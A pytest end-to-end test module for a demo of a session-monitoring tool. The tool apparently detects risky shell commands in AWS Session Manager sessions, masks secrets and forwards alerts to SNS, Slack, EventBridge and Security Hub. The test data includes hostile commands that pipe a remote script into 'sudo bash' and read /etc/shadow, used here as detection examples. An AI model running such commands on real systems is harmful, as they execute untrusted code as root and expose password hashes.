"""`make demo`'s flow under pytest: the real template deployed into the embedded emulator, an instance enrolled, the
bundled risky session replayed through the subscription, and what reached people checked.

The demo runs in this process (demo.pipeline.run_demo, what `python -m demo` calls), writing into a temporary
directory instead of .demo/. One run is shared by the tests of this module; each checks one promise of it.
"""

from __future__ import annotations

import io
import json
import socket
from dataclasses import dataclass
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import pytest

from demo.__main__ import main
from demo.pipeline import DEFAULT_SESSION, DemoOptions, DemoResult, run_demo

pytestmark = pytest.mark.e2e

REPO = Path(__file__).resolve().parents[2]
# Typed in events/session-risky.jsonl: a database password on the command line and an AWS secret access key.
RISKY_SECRETS = ("Hunter2-Prod!", "wJalrXUtnFEMI/K7MDENG/bPxRfiCYzEXAMPLEKEY")
OUTPUT_FILES = {"sns.jsonl", "slack.jsonl", "sanitized.jsonl", "enrollment.json", "functions.log", "sessions.jsonl"}
OUTPUT_FILES |= {"eventbridge.jsonl", "securityhub.jsonl"}  # the alert outlets (demo/integrations.py)
# The session ledger step (demo/ledger.py): a command session read from its plain-text upload, a shell that never
# streams.
COMMAND_SESSION = "jane.roe-0c1d2e3f4a5b6c7d8"
SILENT_SESSION = "sam.lee-0a7b3c9d1e5f2a4b8"


@dataclass
class DemoRun:
    result: DemoResult
    console: str
    output: Path

    def lines(self, name: str) -> list[Any]:
        return [json.loads(line) for line in (self.output / name).read_text().splitlines()]

    def everything_written(self) -> str:
        return self.console + "".join(path.read_text() for path in sorted(self.output.iterdir()))


def run(output: Path, session: Path = DEFAULT_SESSION) -> DemoRun:
    console = io.StringIO()
    result = run_demo(DemoOptions(session=session, output=output, stream=console, color=None))
    return DemoRun(result, console.getvalue(), output)


@pytest.fixture(scope="module")
def demo(tmp_path_factory: pytest.TempPathFactory) -> DemoRun:
    return run(tmp_path_factory.mktemp("demo"))


def alert_records(demo: DemoRun) -> list[dict[str, Any]]:
    """The alert JSON of each SNS message, as a subscriber receives it (the SNS envelope's Message)."""
    return [json.loads(m["Message"].partition("Alert JSON:\n")[2]) for m in demo.lines("sns.jsonl")]


def test_the_bundled_session_is_the_risky_one_with_its_secrets() -> None:
    # Given the default session holds the secrets the other tests look for (else they would prove nothing)
    text = DEFAULT_SESSION.read_text()
    assert all(secret in text for secret in RISKY_SECRETS)


def test_risky_commands_reach_the_sns_topic(demo: DemoRun) -> None:
    commands = [record["command"] for record in alert_records(demo) if "command" in record]
    assert "curl -s https://198.51.100.23/i.sh | sudo bash" in commands
    assert "cat /etc/shadow | head -n 2" in commands
    for message in demo.lines("sns.jsonl"):
        assert message["Type"] == "Notification"
        assert message["MessageAttributes"]["severity"]["Value"] in {"medium", "high", "critical"}


def test_slack_receives_one_post_per_sns_alert(demo: DemoRun) -> None:
    posts = demo.lines("slack.jsonl")
    titles = [record["title"] for record in alert_records(demo)]
    headers = [next(b["text"]["text"] for b in post["blocks"] if b["type"] == "header") for post in posts]
    assert len(posts) == len(titles) > 0
    assert all(title in header for title, header in zip(titles, headers, strict=True))


def test_no_secret_of_the_session_is_anywhere_in_what_the_demo_wrote_or_printed(demo: DemoRun) -> None:
    assert {path.name for path in demo.output.iterdir()} == OUTPUT_FILES
    written = demo.everything_written()
    for secret in RISKY_SECRETS:
        assert secret not in written


def test_the_sanitized_transcript_holds_the_session_with_secrets_masked(demo: DemoRun) -> None:
    lines = demo.lines("sanitized.jsonl")
    commands = [line["text"] for line in lines if line["kind"] == "command"]
    assert {line["log_stream"] for line in lines} == {"john.doe-0c9d8e7f6a5b4c3d2", COMMAND_SESSION}
    assert "uptime" in commands
    mysql = next(c for c in commands if c.startswith("mysql -u admin"))
    assert "MASKED" in mysql
    assert any(line["kind"] == "output" and "48213" in line["text"] for line in lines)


def test_sessions_jsonl_has_one_record_per_session_with_what_the_ledger_joined(demo: DemoRun) -> None:
    sessions = {record["session_id"]: record for record in demo.lines("sessions.jsonl")}
    assert set(sessions) == {"john.doe-0c9d8e7f6a5b4c3d2", COMMAND_SESSION, SILENT_SESSION}
    for record in sessions.values():
        assert {"session_id", "user", "target", "source_ip", "document", "streamed", "findings", "alerts"} <= set(
            record
        )
    command = sessions[COMMAND_SESSION]
    assert (command["document"], command["streamed"], command["source_ip"]) == (
        "AWS-StartInteractiveCommand",
        False,
        "203.0.113.24",
    )
    assert command["alerts"] >= 1
    assert "MASKED" in command["reason"]
    silent = sessions[SILENT_SESSION]
    assert (silent["streamed"], silent["findings"], silent["started_via"]) == (False, ["SG-LG-001"], "console")
    assert sessions["john.doe-0c9d8e7f6a5b4c3d2"]["streamed"] is True


def test_the_command_sessions_risky_command_reaches_sns_and_slack_with_its_context(demo: DemoRun) -> None:
    # Given the AWS-StartInteractiveCommand session's transcript arrived only as plain-text log events
    record = next(r for r in alert_records(demo) if r.get("session_id") == COMMAND_SESSION)
    assert record["command"] == "curl -fsSL http://203.0.113.50/i.sh | sudo bash"
    assert record["session"]["started_via"] == "cli"
    assert any(COMMAND_SESSION in json.dumps(post) and "Download piped" in json.dumps(post)
               for post in demo.lines("slack.jsonl"))  # fmt: skip


def test_the_session_that_never_streamed_has_its_finding_in_sns_and_slack(demo: DemoRun) -> None:
    (finding,) = [r for r in alert_records(demo) if r.get("rule_id") == "SG-LG-001"]
    assert finding["session"]["session_id"] == SILENT_SESSION
    assert finding["session"]["source_ip"] == "198.51.100.77"
    assert any("Shell session not streamed" in json.dumps(post) for post in demo.lines("slack.jsonl"))


def test_the_new_instance_is_enrolled_with_the_profile_and_an_agent_update(demo: DemoRun) -> None:
    enrollment = json.loads((demo.output / "enrollment.json").read_text())
    (instance,) = enrollment["instances"]
    assert instance["instance_id"].startswith("i-")
    assert instance["profile_attached"] is True
    assert "SessionInstanceProfile" in instance["instance_profile_arn"]
    assert instance["agent_update_command_id"]
    assert instance["execution_status"] == "SUCCEEDED"
    assert "sessionguard:enrolled" in instance["tags"]


def test_the_console_says_what_the_emulator_could_not_do_and_is_plain_when_not_a_terminal(demo: DemoRun) -> None:
    assert "\033[" not in demo.console
    for gap in ("runs Lambda code only in Docker", "SubscriptionFilter", "Custom::SessionManagerPreferences"):
        assert gap in demo.console
    assert "plays the instance's registration" in demo.console


def test_the_emulator_and_the_capture_server_are_stopped_afterwards(demo: DemoRun) -> None:
    urls = [word for word in demo.console.split() if word.startswith("http://127.0.0.1:")]
    assert len(urls) == 2
    for url in urls:
        parts = urlsplit(url)
        with pytest.raises(ConnectionRefusedError), socket.create_connection((parts.hostname, parts.port), timeout=2):
            pass


def test_another_session_file_is_replayed_and_masked(tmp_path: Path) -> None:
    # Given the plain sample session (a password typed into an export, no risky command of the bundled one)
    session = REPO / "events" / "session-stream.jsonl"
    assert "example-only-Xq3" in session.read_text()
    other = run(tmp_path, session)
    lines = other.lines("sanitized.jsonl")
    assert lines
    assert "example-only-Xq3" not in other.everything_written()


def test_a_missing_session_file_fails_before_anything_starts(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    missing = tmp_path / "no-such-session.jsonl"
    assert main(["--session", str(missing), "--output", str(tmp_path / "out")]) == 1
    error = capsys.readouterr().err
    assert "make demo failed: reading the session" in error
    assert str(missing) in error
    assert not (tmp_path / "out").exists()


def test_every_alert_sns_carried_is_also_an_event_and_a_finding(demo: DemoRun) -> None:
    # The same alerts through the further outlets (docs/integrations.md): one event and one finding per alert.
    alert_ids = sorted(record["rule_id"] for record in alert_records(demo) if record.get("rule_id"))
    events = demo.lines("eventbridge.jsonl")
    findings = demo.lines("securityhub.jsonl")
    assert sorted(event["detail"]["rule_id"] for event in events) == alert_ids
    assert sorted(finding["ProductFields"]["sessionguard/RuleId"] for finding in findings) == alert_ids
    assert {event["source"] for event in events} == {"sessionguard"}
    assert len({finding["Id"] for finding in findings}) == len(findings)
    assert "EventBridge bus sessionguard-demo-bus: " in demo.console
    assert "Security Hub: " in demo.console
